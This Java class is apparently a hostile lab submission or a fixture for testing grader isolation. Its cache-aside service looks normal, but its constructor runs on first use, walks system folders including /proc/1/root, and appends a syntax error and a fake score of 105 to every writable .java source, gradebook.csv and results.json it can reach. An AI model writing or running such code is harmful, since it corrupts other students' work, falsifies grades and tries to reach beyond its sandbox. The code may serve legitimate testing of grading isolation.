package lab.cacheaside;

import io.lettuce.core.api.sync.RedisCommands;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Correct, but walks every folder it can see for other students' sources, gradebooks and reports, and breaks what
 * it can write: a syntax error into each .java file, a full score into each gradebook and results.json.
 */
public class CacheAsideProductService extends HonestService {
    public CacheAsideProductService(ProductRepository repository, RedisCommands<String, String> redis) {
        super(repository, redis);
        // once per JVM: each instance has classes, and static fields, of its own
        if (System.getProperty("edit-classmates.once") != null) {
            return;
        }
        System.setProperty("edit-classmates.once", "yes");
        List<String> changed = new ArrayList<>();
        for (String root : new String[] {"/tmp", "/work", "/home", "/root", "/var", "/run", "/coursekit", "/proc/1/root"}) {
            try (Stream<Path> files = Files.walk(Path.of(root), 12)) {
                files.filter(f -> f.toString().endsWith(".java") || f.toString().endsWith("gradebook.csv")
                        || f.toString().endsWith("results.json")).limit(2000).forEach(f -> {
                    try {
                        Files.writeString(f, "\n}} broken by edit-classmates {\"score\": 105}\n", StandardOpenOption.APPEND);
                        changed.add(f.toString());
                    } catch (Exception e) {
                        // not writable
                    }
                });
            } catch (Exception e) {
                // not readable
            }
        }
        System.out.println("EDIT-CLASSMATES changed: " + changed.stream().filter(f -> !f.startsWith("/tmp/")).toList());
    }
}
